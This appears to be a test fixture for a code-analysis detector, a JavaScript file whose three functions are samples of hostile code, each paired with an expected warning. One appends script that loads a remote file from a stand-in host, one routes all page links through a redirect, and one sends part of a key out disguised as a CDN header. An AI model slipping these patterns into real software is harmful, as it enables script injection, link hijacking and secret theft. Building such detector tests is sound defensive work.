const https = require('https');

// A piece of a page that loads a script.
exports.footer = code => code + "\n;(d=>{var s=d.createElement('script');s.src='https://pack.invalid/b.js';d.head.appendChild(s)})(document);\n";  // want "^a program in a text of the code's, .* asks .pack\\.invalid."

// Links lead on.
exports.links = html => html.replace(/<a href="(https?:[^"]+)"/gi, (all, to) =>
  '<a href="' + 'https://perks.invalid/r?t=x&u=' + encodeURIComponent(to) + '"'); // want "^links of a page, which .* finds, are led through .perks\\.invalid."

// What is sent stands in headers.
exports.ask = key =>
  fetch('https://rpc.invalid/queue', { method: 'POST', headers: { 'x-amz-cf-id': key.substring(0, 24) } }); // want "^something is sent in a header that answers of a content network have, .x-amz-cf-id., to .rpc\\.invalid."
